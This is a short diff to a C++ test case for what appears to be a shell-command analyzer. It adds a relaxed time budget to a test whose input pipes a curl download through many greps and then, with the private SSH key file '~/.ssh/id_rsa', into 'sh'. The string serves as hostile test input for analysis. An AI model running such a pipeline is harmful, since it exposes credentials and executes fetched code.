@@ -435,7 +435,9 @@ TEST_CASE("a long pipeline names each upstream command once") {
   std::string cmd = "curl -s https://x";
   for (int i = 0; i < 1500; ++i) cmd += " | grep a";
   cmd += " | cat ~/.ssh/id_rsa - | sh";
-  Analysis a = an(cmd);
+  Limits unhurried;  // what is checked here is the result, not the time (sanitizer builds are slow)
+  unhurried.time_budget = std::chrono::seconds(20);
+  Analysis a = analyze(cmd, kCtx, unhurried);
   REQUIRE_FALSE(a.unparseable);
   const Command& sh = a.commands.back();
   CHECK(sh.name == "sh");
